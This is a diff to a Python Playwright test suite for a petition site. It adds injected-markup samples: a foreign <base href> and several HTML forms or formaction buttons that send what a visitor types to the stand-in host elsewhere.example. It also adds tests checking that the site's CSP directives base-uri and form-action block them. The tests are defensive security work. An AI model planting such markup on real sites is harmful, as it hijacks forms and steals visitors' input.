@@ -42,6 +42,16 @@ FORBIDDEN = [
     '<p onclick="x()">x</p>',
     '<img src="https://elsewhere.example/x.png" alt="">',
     '<iframe src="/en/"></iframe>',
+    '<base href="https://elsewhere.example/">',
+]
+# What an injected form could do with what a visitor types, without any script.
+FOREIGN_FORMS = [
+    '<form method="post" action="https://elsewhere.example/"><button id="injected">Continue</button></form>',
+    '<form action="https://elsewhere.example/"><button id="injected">Continue</button></form>',
+    (
+        '<form id="f" method="post" action="/en/confirm/"></form>'
+        '<button id="injected" form="f" formaction="https://elsewhere.example/">Continue</button>'
+    ),
 ]
 
 
@@ -208,6 +218,27 @@ def test_these_tests_would_notice_what_the_policy_forbids(petition: Petition, op
         _show_with(window, path, page, markup)
         window.page.wait_for_timeout(100)
         assert window.real_problems() != [], markup
+
+
+def test_no_link_of_a_page_is_led_elsewhere_by_a_base(petition: Petition, open_window: OpenWindow) -> None:
+    window = open_window()
+    path = page_of(petition, "thanks")
+    _show_with(window, path, window.page.request.get(window.url + path), '<base href="https://elsewhere.example/">')
+    assert any("base-uri" in problem for problem in window.problems)
+    links = window.page.evaluate("[...document.links].filter(link => link.host.includes('elsewhere')).length")
+    assert (links, window.page.evaluate("document.baseURI")) == (0, window.url + path)
+
+
+@pytest.mark.parametrize("form", FOREIGN_FORMS)
+def test_no_form_of_a_page_is_sent_elsewhere(petition: Petition, open_window: OpenWindow, form: str) -> None:
+    window = open_window()
+    path = page_of(petition, "thanks")
+    _show_with(window, path, window.page.request.get(window.url + path), form)
+    window.page.evaluate("document.getElementById('injected').click()")
+    window.page.wait_for_timeout(300)
+    assert any("form-action" in problem for problem in window.problems)
+    assert not any("elsewhere" in address for address in window.requests)
+    assert window.page.url == window.url + path
 
 
 def _show_with(window: Window, path: str, page: APIResponse, markup: str) -> None:
